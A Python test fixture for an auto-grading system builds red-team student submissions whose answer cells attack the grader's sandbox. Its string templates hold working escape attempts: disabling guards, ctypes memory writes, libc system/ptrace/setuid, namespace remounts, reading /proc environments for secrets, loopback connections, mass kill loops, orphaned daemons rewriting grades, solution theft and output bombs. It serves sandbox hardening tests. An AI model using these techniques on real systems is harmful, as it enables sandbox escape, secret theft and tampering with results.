"""The red-team class of lesson 01: attacks on the grader's isolation, as learners.

Each :class:`~classroom_fixtures.sample_class.Learner` is one Canvas
submission whose answer cells attack the machine that grades them, one class
of mechanism per learner (issue 13): tampering with anything guard-like in
the sandbox's interpreter, raw memory writes, native calls through ctypes,
syscalls that raise no audit event, the parent's ``/proc``, the network,
``setsid`` survivors, planted symlinks and FIFOs, killing the grader, late
tampering with the results, references and solutions, result bombs and
deadline resets.

Every attacker answers ``squared_error`` honestly (1 point) and nothing
else; whatever it steals or breaks, it must get exactly that point (or less,
where its own attack spends its time budget), and a status that says what
happened.  What an attack found is put where the learner would see it: in
the message of an exception its ``cost`` raises (shown in the feedback page
and the gradebook's comments) and in the value its ``predict`` returns, so
that a leak would reach the output files the test searches.

The attacks aim at the host paths the test hands them (:class:`Targets`):
the output folder, a witness folder (any file appearing there is a side
effect), a root-only file holding the secret, the repository's solution
notebook, a TCP listener on loopback and an abstract unix socket.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

from classroom_fixtures.sample_class import (CORRECT, NB, POINTS, WRONG, Learner, answers,
                                             notebook)

__all__ = ["HONEST", "MARKER_NAME", "Targets", "red_team_class"]

#: The process name every survivor gives itself (prctl PR_SET_NAME), so the test can find it.
MARKER_NAME = "rtsurvivor"

#: Points of an attacker that answers squared_error honestly and nothing else.
HONEST = {"squared_error": POINTS["squared_error"], "cost": 0, "predict": 0,
          "gradient_descent_step": 0}
ZERO = {function: 0 for function in POINTS}


@dataclass(frozen=True)
class Targets:
    """Host paths and addresses the attacks aim at (none of them is reachable from the sandbox)."""

    output: str           # the grading run's --output folder
    witness: str          # an empty folder: anything created there is a side effect
    secret_file: str      # a root-only file holding the secret
    victim: str           # a file a planted symlink points to
    solution: str         # the repository's solutions/01-loss-vs-cost notebook
    repository: str       # the repository (lossedu's source is under it)
    port: int             # a TCP listener on 127.0.0.1 (and UDP on the same port)
    unix_name: str        # an abstract unix socket listener (without the leading NUL)
    victim_id: str        # the learner whose feedback page a planted symlink replaces


# Shared by every attack: try an action, keep what worked first.
PRELUDE = '''import os, sys, time, gc, signal, socket, struct
LOOT, TRIED = [], []

def attempt(name, action):
    """Run one attack step; what worked goes first into LOOT, what was refused into TRIED."""
    try:
        result = action()
    except BaseException as error:
        TRIED.append(f"{name}: {type(error).__name__}")
        return None
    LOOT.append(f"{name}: {str(result)[:300]}")
    return result

def read(path, size=4000):
    with open(path, "rb") as handle:
        return handle.read(size).decode("utf-8", "replace")
'''

# What an attacker shows: the loot, in cost's exception and predict's return value.
LEAK = '''
def cost(y_true, y_pred):
    raise ValueError("LOOT " + " | ".join(LOOT + TRIED))

def predict(X, w, b):
    return "LOOT " + " | ".join(LOOT + TRIED)
'''

# Everything forbidden, tried again after a guard was (supposedly) switched off.
FORBIDDEN = '''
attempt("shell", lambda: os.system(
    "id > @WITNESS@/shell-ran; cat @SECRET_FILE@ >> @WITNESS@/shell-ran; "
    "cat /etc/hostname >> @WITNESS@/shell-ran"))
attempt("hostname", lambda: read("/etc/hostname"))
attempt("secret file", lambda: read("@SECRET_FILE@"))
attempt("solution", lambda: read("@SOLUTION@", 100_000))
attempt("lossedu source", lambda: read("@REPOSITORY@/lossedu/training.py"))
attempt("checker source", lambda: read("@REPOSITORY@/lossedu/grading/checker.py"))
attempt("parent environ", lambda: read(f"/proc/{os.getppid()}/environ"))

def _connect():
    with socket.create_connection(("127.0.0.1", @PORT@), timeout=1) as connection:
        connection.sendall(b"ATTACKER")
    return "connected"
attempt("socket", _connect)

def _write_witness():
    with open("@WITNESS@/written", "w") as handle:
        handle.write("written from the sandbox")
    return "written"
attempt("write", _write_witness)
'''

# 1. Hook tampering: reach __main__, frames and gc; disable anything guard-like.
HOOKS = '''
SUSPECT = ("guard", "audit", "hook", "block", "deny", "forbid", "allow", "refus", "stub",
           "limit", "sandbox", "alarm", "timeup")

def _noop(*args, **kwargs):
    return None

def _disarm(namespace):
    count = 0
    for name, value in list(namespace.items()):
        if not any(word in name.lower() for word in SUSPECT):
            continue
        if isinstance(value, (list, set, dict)):
            value.clear()
            count += 1
        elif callable(value):
            try:
                value.__code__ = _noop.__code__
            except (AttributeError, TypeError, ValueError):
                namespace[name] = _noop
            count += 1
    return count

def _disarm_everything():
    count = _disarm(vars(sys.modules["__main__"]))
    frame = sys._getframe()
    while frame is not None:
        count += _disarm(frame.f_globals)
        frame = frame.f_back
    for thing in gc.get_objects():
        if callable(thing) and getattr(thing, "__module__", None) == "__main__" and \\
                any(word in getattr(thing, "__name__", "").lower() for word in SUSPECT):
            try:
                thing.__code__ = _noop.__code__
                count += 1
            except (AttributeError, TypeError, ValueError):
                pass
    for hook in list(getattr(sys, "meta_path", [])):
        if "guard" in type(hook).__name__.lower():
            sys.meta_path.remove(hook)
            count += 1
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    return f"disarmed {count}"

attempt("disarm", _disarm_everything)
signal.setitimer(signal.ITIMER_REAL, 2.5)     # keep the cell short even so
signal.signal(signal.SIGALRM, lambda *args: None)
''' + FORBIDDEN

# 2. Raw memory: numpy's __array_interface__ and ctypes.memmove over live objects.
RAW_MEMORY = '''import ctypes
import numpy as np

class _Raw:
    def __init__(self, address, size):
        self.__array_interface__ = {"data": (address, False), "shape": (size,),
                                    "typestr": "|u1", "version": 3}

def _zero_guard_lists():
    """Set the length of every list that looks like a deny-list to 0, by raw writes."""
    count = 0
    zeros = (ctypes.c_char * 8)()
    for thing in gc.get_objects():
        if type(thing) is list and thing and all(type(item) is str for item in thing[:8]) and \\
                any(word in item for item in thing[:64] for word in
                    ("open", "socket", "subprocess", "system", "ctypes", "exec")):
            if count % 2:
                np.asarray(_Raw(id(thing) + 16, 8))[:] = 0      # ob_size of the list
            else:
                ctypes.memmove(id(thing) + 16, zeros, 8)
            count += 1
    return f"zeroed {count}"

def _read_parent_memory():
    """process_vm_readv on the parent and on pid 1: the grader's memory."""
    libc = ctypes.CDLL(None, use_errno=True)
    buffer = ctypes.create_string_buffer(64)

    class _IoVec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
    local = _IoVec(ctypes.addressof(buffer), 64)
    remote = _IoVec(0x400000, 64)
    done = []
    for pid in {os.getppid(), 1}:
        count = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
        if count > 0:
            done.append(f"{pid}: {buffer.raw[:count]!r}")
    if not done:
        raise PermissionError(ctypes.get_errno(), "process_vm_readv refused")
    return done

def _parent_mem():
    with open(f"/proc/{os.getppid()}/mem", "rb") as handle:
        handle.seek(0x400000)
        return handle.read(16)

attempt("zero guard lists", _zero_guard_lists)
attempt("process_vm_readv", _read_parent_memory)
attempt("parent /proc mem", _parent_mem)
''' + FORBIDDEN

# 3. Native calls: libc's system, open, connect, ptrace and setuid through ctypes.
NATIVE = '''import ctypes

libc = ctypes.CDLL(None, use_errno=True)

def _system():
    status = libc.system(b"touch @WITNESS@/native-system; "
                         b"cat @SECRET_FILE@ > @WITNESS@/native-secret")
    if status != 0:
        raise OSError(status, "system failed")
    return "system ran"

def _libc_read(path):
    fd = libc.open(path.encode(), 0)
    if fd < 0:
        raise OSError(ctypes.get_errno(), path)
    buffer = ctypes.create_string_buffer(4000)
    count = libc.read(fd, buffer, 4000)
    libc.close(fd)
    return buffer.raw[:max(count, 0)].decode("utf-8", "replace")

def _libc_write():
    fd = libc.open(b"@WITNESS@/native-open", 0o101, 0o644)     # O_WRONLY | O_CREAT
    if fd < 0:
        raise OSError(ctypes.get_errno(), "open for writing")
    libc.write(fd, b"native", 6)
    libc.close(fd)
    return "written"

def _libc_connect():
    fd = libc.socket(2, 1, 0)                                # AF_INET, SOCK_STREAM
    if fd < 0:
        raise OSError(ctypes.get_errno(), "socket")
    address = struct.pack("=H", 2) + struct.pack("!H", @PORT@) + bytes([127, 0, 0, 1]) + bytes(8)
    if libc.connect(fd, address, len(address)) != 0:
        error = ctypes.get_errno()
        libc.close(fd)
        raise OSError(error, "connect")
    libc.write(fd, b"NATIVE", 6)
    libc.close(fd)
    return "connected"

def _checked(name, value):
    if value != 0:
        raise OSError(ctypes.get_errno(), name)
    return f"{name} succeeded"

attempt("libc system", _system)
attempt("libc open secret", lambda: _libc_read("@SECRET_FILE@"))
attempt("libc open solution", lambda: _libc_read("@SOLUTION@"))
attempt("libc open parent environ", lambda: _libc_read(f"/proc/{os.getppid()}/environ"))
attempt("libc write", _libc_write)
attempt("libc connect", _libc_connect)
attempt("libc setuid 0", lambda: _checked("setuid", libc.setuid(0)))
attempt("libc ptrace attach 1", lambda: _checked("ptrace", libc.ptrace(16, 1, 0, 0)))
attempt("libc ptrace attach parent",
        lambda: _checked("ptrace", libc.ptrace(16, os.getppid(), 0, 0)))
CALLBACK = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_char_p)(
    lambda command: libc.system(command))
attempt("CFUNCTYPE system", lambda: CALLBACK(b"touch @WITNESS@/native-callback") or "ran")

def _writable_binds():
    """A nested user and mount namespace: root there, then remount the read-only binds."""
    if libc.unshare(0x10000000 | 0x00020000) != 0:            # CLONE_NEWUSER | CLONE_NEWNS
        raise OSError(ctypes.get_errno(), "unshare")
    uid, gid = os.getuid(), os.getgid()
    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"),
                       ("gid_map", f"0 {gid} 1")):
        try:
            with open(f"/proc/self/{name}", "w") as handle:
                handle.write(text)
        except OSError:
            pass
    numpy_folder = os.path.dirname(__import__("numpy").__file__)
    remounted = []
    for folder in (os.path.dirname(sys.argv[0]), numpy_folder, "/usr", "/"):
        if libc.mount(None, folder.encode(), None, 32 | 4096, None) == 0:   # MS_REMOUNT|MS_BIND
            remounted.append(folder)
    for path in (sys.argv[0], os.path.join(numpy_folder, "__init__.py")):
        attempt(f"utime after remount {path}", lambda path=path: os.utime(path, (0, 0)))
    attempt("mkfifo after remount", lambda: os.mkfifo(os.path.join(numpy_folder, "redteam-fifo")))
    if not remounted:
        raise PermissionError(ctypes.get_errno(), "no bind could be remounted writable")
    return f"remounted {remounted}"

attempt("nested namespaces", _writable_binds)
attempt("libc chroot", lambda: _checked("chroot", libc.chroot(b"/tmp")))
'''

# 4. Syscalls that raise no audit event, on files the sandbox can see (the host's own).
SYSCALLS = '''import stat, errno
NUMPY_INIT = os.path.join(os.path.dirname(__import__("numpy").__file__), "__init__.py")
TARGETS = [sys.argv[0], NUMPY_INIT, sys.executable, "/usr/bin/env", "@VICTIM@",
           "@SOLUTION@"]
for path in TARGETS:
    attempt(f"utime {path}", lambda path=path: os.utime(path, (0, 0)))
    attempt(f"setxattr {path}", lambda path=path: os.setxattr(path, "user.redteam", b"1"))
    attempt(f"chown {path}", lambda path=path: os.chown(path, os.getuid(), os.getgid()))
for path in (sys.argv[0], "@VICTIM@"):
    attempt(f"chmod {path}", lambda path=path: os.chmod(path, 0o600))
for folder in (os.path.dirname(sys.argv[0]), os.path.dirname(NUMPY_INIT), "/usr", "/",
               "@WITNESS@", "@OUTPUT@"):
    attempt(f"mkfifo {folder}",
            lambda folder=folder: os.mkfifo(os.path.join(folder, "redteam-fifo")))
    attempt(f"mknod {folder}", lambda folder=folder: os.mknod(
        os.path.join(folder, "redteam-node"), stat.S_IFREG | 0o644))
    attempt(f"symlink {folder}", lambda folder=folder: os.symlink(
        "@SECRET_FILE@", os.path.join(folder, "redteam-link")))

def _device_memory():
    os.mknod("/tmp/redteam-mem", stat.S_IFCHR | 0o600, os.makedev(1, 1))
    with open("/tmp/redteam-mem", "rb") as handle:
        return handle.read(16)

def _block_device():
    os.mknod("/tmp/redteam-disk", stat.S_IFBLK | 0o600, os.makedev(8, 0))
    with open("/tmp/redteam-disk", "rb") as handle:
        return handle.read(16)
attempt("mknod /dev/mem", _device_memory)
attempt("mknod disk", _block_device)

def _links(pid):
    found = []
    for leaf in ("exe", "cwd", "root", "fd/0", "fd/1", "fd/2", "fd/3", "fd/4"):
        try:
            found.append(f"{leaf}={os.readlink(f'/proc/{pid}/{leaf}')}")
        except OSError:
            pass
    if not found:
        raise PermissionError(pid)
    return found
attempt("readlink parent", lambda: _links(os.getppid()))
attempt("readlink 1", lambda: _links(1))
attempt("hard link", lambda: os.link(sys.argv[0], "/tmp/redteam-hardlink"))
attempt("setuid 0", lambda: os.setuid(0))
attempt("setgid 0", lambda: os.setgid(0))
attempt("chroot", lambda: os.chroot("/tmp"))
'''

# 5. /proc of the parent: the grader's environment (and everyone else's) for the secret.
PROC_PARENT = '''
def _environments():
    found = []
    pids = [os.getppid(), 1] + sorted(int(name) for name in os.listdir("/proc") if name.isdigit())
    for pid in pids:
        for leaf in ("environ", "cmdline"):
            try:
                data = read(f"/proc/{pid}/{leaf}", 1_000_000)
            except OSError:
                continue
            for entry in data.split("\\0"):
                if "SECRET" in entry or "LOSSEDU" in entry or entry.startswith("/"):
                    found.append(f"{pid}/{leaf}: {entry}")
    found.sort(key=lambda entry: "SECRET" not in entry)
    if not any("SECRET" in entry for entry in found):
        raise LookupError(f"no secret in {len(pids)} processes")
    return found

def _through_parent_root():
    return read(f"/proc/{os.getppid()}/root@SECRET_FILE@")

SECRETS = attempt("environ", _environments)
attempt("parent root", _through_parent_root)
attempt("1 root", lambda: read("/proc/1/root@SECRET_FILE@"))
attempt("parent cwd", lambda: os.listdir(f"/proc/{os.getppid()}/cwd"))
'''
PROC_PARENT_LEAK = '''
def cost(y_true, y_pred):
    raise ValueError("SECRET " + " | ".join((SECRETS or []) + LOOT + TRIED))

def predict(X, w, b):
    return "SECRET " + " | ".join((SECRETS or []) + LOOT + TRIED)
'''

# 6. Network: the listener on the grader's loopback, by TCP, UDP and an abstract unix socket.
NETWORK = '''
def _tcp(host, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_STREAM) as connection:
        connection.settimeout(1)
        connection.connect((host, @PORT@))
        connection.sendall(b"NETWORK")
    return "connected"

def _udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(b"NETWORK-UDP", ("127.0.0.1", @PORT@))
    return "sent"

def _abstract():
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
        connection.settimeout(1)
        connection.connect("\\0@UNIX_NAME@")
        connection.sendall(b"NETWORK-UNIX")
    return "connected"

def _outside():
    with socket.create_connection(("1.1.1.1", 53), timeout=1):
        return "reached the internet"

attempt("tcp 127.0.0.1", lambda: _tcp("127.0.0.1"))
attempt("tcp localhost", lambda: _tcp("localhost"))
attempt("tcp ::1", lambda: _tcp("::1", socket.AF_INET6))
attempt("udp", _udp)
attempt("abstract unix", _abstract)
attempt("internet", _outside)
attempt("interfaces", lambda: socket.if_nameindex())
'''
NETWORK_IN_CALL = '''
def cost(y_true, y_pred):
    attempt("tcp in call", lambda: _tcp("127.0.0.1"))
    attempt("abstract unix in call", _abstract)
    raise ValueError("LOOT " + " | ".join(LOOT + TRIED))

def predict(X, w, b):
    return "LOOT " + " | ".join(LOOT + TRIED)
'''

# 7. setsid survivors: 30 double-forked, setsid'd processes that outlive the sandbox and try to
#    write the results after the run.
SURVIVORS = '''import ctypes

def _survive(index):
    os.setsid()
    if os.fork() > 0:
        os._exit(0)                                   # double fork: reparented
    try:
        ctypes.CDLL(None).prctl(15, b"@MARKER@", 0, 0, 0)  # PR_SET_NAME
    except BaseException:
        pass
    for name in ("SIGTERM", "SIGHUP", "SIGINT", "SIGALRM"):
        signal.signal(getattr(signal, name), signal.SIG_IGN)
    end = time.time() + 40
    while time.time() < end:
        time.sleep(0.5)
        for path, data in (("@OUTPUT@/grades.csv", b"learner,score\\n1001,0\\n"),
                           ("@OUTPUT@/course/gradebook.db", b""),
                           (f"@OUTPUT@/canary-{index}", b"survived"),
                           (f"@WITNESS@/survivor-{index}", b"survived")):
            try:
                with open(path, "wb") as handle:
                    handle.write(data)
            except BaseException:
                pass
    os._exit(0)

def _fork_survivors():
    started = 0
    for index in range(30):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                _survive(index)
            finally:
                os._exit(0)
        started += 1
        os.waitpid(pid, 0)
    if not started:
        raise OSError("no fork")
    return f"{started} survivors"

attempt("survivors", _fork_survivors)
'''
SURVIVORS_IN_CALL = '''
def cost(y_true, y_pred):
    attempt("survivors in call", _fork_survivors)
    time.sleep(1.5)                       # the survivors are up while the grader waits
    raise ValueError("LOOT " + " | ".join(LOOT + TRIED))

def predict(X, w, b):
    return "LOOT " + " | ".join(LOOT + TRIED)
'''

# 8. Planted symlinks and FIFOs in the output folder, from the answer.
PLANTED = '''
def _plant():
    os.makedirs("@OUTPUT@/feedback", exist_ok=True)
    os.symlink("@VICTIM@", "@OUTPUT@/feedback/@VICTIM_ID@.html")
    os.mkfifo("@OUTPUT@/grades.csv")
    os.symlink("@VICTIM@", "@OUTPUT@/summary.txt")
    return "planted"
attempt("plant", _plant)
attempt("plant in witness", lambda: os.symlink("@VICTIM@", "@WITNESS@/planted-link"))
'''

# 9. Killing the grader: the parent, pid 1, every pid (kill and pidfd_send_signal), kill -1.
KILLER = '''
def _kill(pid):
    os.kill(pid, signal.SIGKILL)
    return f"killed {pid}"

def _pidfd(pid):
    descriptor = os.pidfd_open(pid)
    try:
        signal.pidfd_send_signal(descriptor, signal.SIGKILL)
    finally:
        os.close(descriptor)
    return f"pidfd-killed {pid}"

def _kill_every_pid():
    killed, me = [], os.getpid()
    for pid in range(1, 70_000):
        if pid == me:
            continue
        try:
            os.kill(pid, signal.SIGKILL)
            killed.append(pid)
        except OSError:
            pass
    if not killed:
        raise ProcessLookupError("nothing killed")
    return f"killed {killed[:20]}"

def _pidfd_every_proc():
    killed = []
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != os.getpid():
            try:
                _pidfd(int(name))
                killed.append(name)
            except OSError:
                pass
    if not killed:
        raise ProcessLookupError("nothing killed")
    return f"pidfd-killed {killed}"

def _kill_everyone():
    attempt("kill parent", lambda: _kill(os.getppid()))
    attempt("kill 1", lambda: _kill(1))
    attempt("pidfd parent", lambda: _pidfd(os.getppid()))
    attempt("pidfd 1", lambda: _pidfd(1))
    attempt("kill every pid", _kill_every_pid)
    attempt("pidfd every /proc pid", _pidfd_every_proc)
    attempt("kill -1", lambda: _kill(-1))
    attempt("sigstop parent", lambda: os.kill(os.getppid(), signal.SIGSTOP))

_kill_everyone()
'''
KILLER_IN_CALL = '''
def cost(y_true, y_pred):
    _kill_everyone()
    raise ValueError("LOOT " + " | ".join(LOOT + TRIED))

def predict(X, w, b):
    _kill_everyone()
    return "LOOT " + " | ".join(LOOT + TRIED)
'''

# 10. Late tampering: daemons that rewrite grades.csv and the gradebook seconds after the run.
LATE_TAMPER = '''import subprocess
SCRIPT = ("sleep 3; printf 'learner,name,score\\\\n@VICTIM_ID@,x,0\\\\n' > @OUTPUT@/grades.csv; "
          ": > @OUTPUT@/course/gradebook.db; echo late > @WITNESS@/late-shell")

def _daemon():
    process = subprocess.Popen(["/bin/sh", "-c", SCRIPT], start_new_session=True,
                               stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                               stderr=subprocess.DEVNULL)
    return f"daemon {process.pid}"

def _python_daemon():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            signal.signal(signal.SIGHUP, signal.SIG_IGN)
            time.sleep(2)
            for _ in range(20):
                for path in ("@OUTPUT@/grades.csv", "@WITNESS@/late-python"):
                    try:
                        with open(path, "w") as handle:
                            handle.write("learner,name,score\\n@VICTIM_ID@,x,0\\n")
                    except BaseException:
                        pass
                time.sleep(0.5)
        os._exit(0)
    os.wait()
    return "forked"

attempt("shell daemon", _daemon)
attempt("python daemon", _python_daemon)
'''
LATE_TAMPER_IN_CALL = '''
def cost(y_true, y_pred):
    attempt("shell daemon in call", _daemon)
    attempt("python daemon in call", _python_daemon)
    raise ValueError("LOOT " + " | ".join(LOOT + TRIED))

def predict(X, w, b):
    return "LOOT " + " | ".join(LOOT + TRIED)
'''

# 11. References and solutions: lossedu, the solution notebook, the given cells' imports.
REFERENCES = '''import json, types

def _from_import(name):
    import lossedu.training as training
    return getattr(training, name)

def _from_repository(name):
    sys.path.insert(0, "@REPOSITORY@")
    try:
        import importlib
        return getattr(importlib.import_module("lossedu.training"), name)
    finally:
        sys.path.remove("@REPOSITORY@")

def _from_solution(name, path="@SOLUTION@"):
    notebook = json.loads(read(path, 10_000_000))
    namespace = {"np": __import__("numpy")}
    for cell in notebook["cells"]:
        grade_id = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id", "")
        if grade_id.startswith("answer_"):
            exec("".join(cell["source"]), namespace)
    return namespace[name]

def _from_given(name):
    stub = {"cost": reference_cost, "predict": reference_predict,
            "gradient_descent_step": reference_step}[name]
    for candidate in (getattr(stub, "__wrapped__", None),
                      *(cell.cell_contents for cell in (stub.__closure__ or ())),
                      *stub.__globals__.values()):
        if callable(candidate) and getattr(candidate, "__module__", "").startswith("lossedu") \\
                and getattr(candidate, "__name__", "") == name:
            return candidate
    stub(__import__("numpy").zeros(2), __import__("numpy").zeros(2))   # the stub itself
    raise LookupError(name)

def _from_memory(name):
    for thing in gc.get_objects():
        if isinstance(thing, types.FunctionType) and thing.__name__ == name and \\
                (thing.__module__ or "").startswith("lossedu"):
            return thing
    for module_name, module in list(sys.modules.items()):
        if "lossedu" in module_name and hasattr(module, name):
            return getattr(module, name)
    raise LookupError(name)

def _from_disk(name):
    started = time.monotonic()
    for root, folders, files in os.walk("/"):
        folders[:] = [folder for folder in folders
                      if folder not in ("proc", "sys", "dev", "share", "include", "locale")]
        if time.monotonic() - started > 1.0:
            break
        if os.path.basename(root) == "lossedu" and "training.py" in files:
            namespace = {}
            exec(read(os.path.join(root, "training.py"), 1_000_000), namespace)
            return namespace[name]
        for file in files:
            if file.endswith(".ipynb"):
                return _from_solution(name, os.path.join(root, file))
    raise LookupError(name)

def steal(name):
    for way in (_from_import, _from_repository, _from_solution, _from_given, _from_memory,
                _from_disk):
        found = attempt(f"{way.__name__} {name}", lambda way=way: way(name))
        if callable(found):
            return found
    return None

STOLEN_COST = steal("cost")
STOLEN_PREDICT = steal("predict")
STOLEN_STEP = steal("gradient_descent_step")

def cost(y_true, y_pred):
    if STOLEN_COST is not None:
        return STOLEN_COST(y_true, y_pred)
    return reference_cost(y_true, y_pred)         # the given cells' import

def predict(X, w, b):
    if STOLEN_PREDICT is not None:
        return STOLEN_PREDICT(X, w, b)
    return reference_predict(X, w, b)

def gradient_descent_step(X, y, w, b, learning_rate):
    if STOLEN_STEP is not None:
        return STOLEN_STEP(X, y, w, b, learning_rate)
    gradient = numerical_gradient(lambda p: float(np.mean((X @ p[:-1] + p[-1] - y) ** 2)),
                                  np.append(w, b))
    return w - learning_rate * gradient[:-1], b - learning_rate * gradient[-1]
'''

# 12. Result bombs: a huge nested list, a 200 MB string, objects with huge reprs.
BOMBS = '''
class _HugeRepr:
    def __repr__(self):
        return "x" * 300_000_000
    __str__ = __repr__

def cost(y_true, y_pred):
    row = [0.5] * 9_999
    return [row] * 9_999                  # 100 million floats once encoded

def predict(X, w, b):
    return "y" * 200_000_000

class _HugeMessage(Exception):
    def __str__(self):
        return "z" * 200_000_000

def gradient_descent_step(X, y, w, b, learning_rate):
    if len(y) % 2:
        raise _HugeMessage()
    return _HugeRepr(), _HugeRepr()
'''

# 12b. Result bombs written straight onto the protocol pipe.
FRAME_BOMBS = '''
_PIPE = int(sys.argv[2])

def _frame(data):
    return struct.pack("!I", len(data)) + data

def cost(y_true, y_pred):
    os.write(_PIPE, struct.pack("!I", 0xFFFFFFF0))          # "4 GB follow"
    time.sleep(60)

def predict(X, w, b):
    os.write(_PIPE, _frame(b"[" * (16 * 2**20 - 64)))        # nested past any budget
    time.sleep(60)

def gradient_descent_step(X, y, w, b, learning_rate):
    body = b'{"op": "result", "ok": true, "value": {"t": "list", "v": [' + \\
        b"0," * (8 * 2**20 - 64) + b'0]}}'                  # 8 million tiny objects
    os.write(_PIPE, _frame(body))
    time.sleep(60)
'''

# 13. Deadline resets: swallowing the alarm, in a cell and in functions.
DEADLINES = '''
def cost(y_true, y_pred):
    return float(np.sum(squared_error(y_true, y_pred)))

while True:                               # the cell never ends, whatever the alarm does
    try:
        while True:
            pass
    except BaseException:
        continue
'''
DEADLINES_PREDICT = '''def predict(X, w, b):
    while True:
        try:
            while True:
                pass
        except BaseException:
            continue
'''
DEADLINES_STEP = '''import signal

class _Endless(Exception):
    def __str__(self):
        while True:
            try:
                while True:
                    pass
            except BaseException:
                continue

def gradient_descent_step(X, y, w, b, learning_rate):
    signal.setitimer(signal.ITIMER_REAL, 0)
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    raise _Endless()
'''

# 13b. Deadline resets aimed at the grader: forged "cell" frames keep announcing a new cell.
FORGED_CELLS = '''
_PIPE = int(sys.argv[2])

def _frame(message):
    import json
    data = json.dumps(message).encode()
    return struct.pack("!I", len(data)) + data

signal.setitimer(signal.ITIMER_REAL, 0)
signal.signal(signal.SIGALRM, signal.SIG_IGN)
for round in range(10_000):
    os.write(_PIPE, _frame({"op": "cell_done", "index": 1, "fault": None, "message": ""}))
    os.write(_PIPE, _frame({"op": "cell", "index": 1}))
    time.sleep(1)
'''

# The control: what a learner's exception says does reach the feedback page.
CONTROL = '''
def cost(y_true, y_pred):
    raise ValueError("@CONTROL_MARK@")

def predict(X, w, b):
    return "@CONTROL_MARK@"
'''


def fill(source: str, targets: Targets, control_mark: str = "") -> str:
    for key, value in (("@OUTPUT@", targets.output), ("@WITNESS@", targets.witness),
                       ("@SECRET_FILE@", targets.secret_file), ("@VICTIM@", targets.victim),
                       ("@SOLUTION@", targets.solution), ("@REPOSITORY@", targets.repository),
                       ("@PORT@", str(targets.port)), ("@UNIX_NAME@", targets.unix_name),
                       ("@VICTIM_ID@", targets.victim_id), ("@MARKER@", MARKER_NAME),
                       ("@CONTROL_MARK@", control_mark)):
        source = source.replace(key, value)
    left = re.search(r"@[A-Z_]+@", source)
    assert left is None, f"no value for {left.group()}"
    return source


def red_team_class(release: dict, targets: Targets, control_mark: str) -> list:
    """The red-team learners, in user-id order (1101: an honest learner, 1102: the control)."""

    def attacker(label, user_id, cost_cell, status="ok", scores=HONEST, other=None, notes=""):
        changes = {"cost": fill(cost_cell, targets, control_mark),
                   "predict": WRONG["predict"],
                   "gradient_descent_step": WRONG["gradient_descent_step"]}
        changes.update({key: fill(value, targets) for key, value in (other or {}).items()})
        return Learner(label, user_id, {NB: notebook(release, answers(**changes))},
                       dict(scores), status, notes=notes)

    def leak(attack):
        return PRELUDE + attack + LEAK

    fault = r"(ran out of memory|stopped at the time limit \(endless loop\?\)|" \
            r"sent back a result that is not plain numbers, or too large)"
    return [
        Learner("honest", targets.victim_id, {NB: notebook(release, CORRECT)},
                dict(POINTS), "ok", notes="its feedback page is where a symlink was planted"),
        attacker("control", "1102", CONTROL, scores=HONEST,
                 notes="a learner's message reaches the feedback: the leak checks can fail"),
        attacker("hooks", "1103", leak(HOOKS)),
        attacker("rawmemory", "1104", leak(RAW_MEMORY)),
        attacker("native", "1105", leak(NATIVE)),
        attacker("syscalls", "1106", leak(SYSCALLS)),
        attacker("procenviron", "1107", PRELUDE + PROC_PARENT + PROC_PARENT_LEAK),
        attacker("network", "1108", PRELUDE + NETWORK + NETWORK_IN_CALL),
        attacker("setsid", "1109", PRELUDE + SURVIVORS + SURVIVORS_IN_CALL),
        attacker("planted", "1110", leak(PLANTED)),
        # What it can kill is its own sandbox (the process that started it inside the
        # isolation): then the answer cell ends its own process, nothing else.
        attacker("killer", "1111", PRELUDE + KILLER + KILLER_IN_CALL,
                 status=r"(ok|cost: its answer cell crashed the process that ran it: graded as "
                        r"not answered)"),
        attacker("latetamper", "1112", PRELUDE + LATE_TAMPER + LATE_TAMPER_IN_CALL),
        attacker("references", "1113", PRELUDE + REFERENCES,
                 other={"predict": "# predict: see the cost cell\n",
                        "gradient_descent_step": "# the step: see the cost cell\n"}),
        attacker("bombs", "1114", BOMBS,
                 status=r"cost: " + fault,
                 other={"predict": "# predict: see the cost cell\n",
                        "gradient_descent_step": "# the step: see the cost cell\n"}),
        attacker("framebombs", "1115", PRELUDE + FRAME_BOMBS,
                 status=r"cost: sent back a result that is not plain numbers, or too large; "
                        r"predict: sent back a result that is not plain numbers, or too large; "
                        r"gradient_descent_step: sent back a result that is not plain numbers, "
                        r"or too large",
                 other={"predict": "# predict: see the cost cell\n",
                        "gradient_descent_step": "# the step: see the cost cell\n"}),
        attacker("deadlines", "1116", DEADLINES,
                 status=r"cost: its answer cell was stopped at the time limit \(endless loop\?\):"
                        r" graded as not answered; "
                        r"predict: stopped at the time limit \(endless loop\?\); "
                        r"gradient_descent_step: stopped at the time limit \(endless loop\?\)",
                 other={"predict": DEADLINES_PREDICT, "gradient_descent_step": DEADLINES_STEP}),
        attacker("forgedcells", "1117", PRELUDE + FORGED_CELLS, scores=ZERO,
                 status="; ".join(f"{function}: stopped at the time limit \\(endless loop\\?\\)"
                                  for function in POINTS),
                 notes="its cell kept the sandbox busy until the learner's overall time limit: "
                       "nothing of it is graded, the honest squared_error included"),
    ]

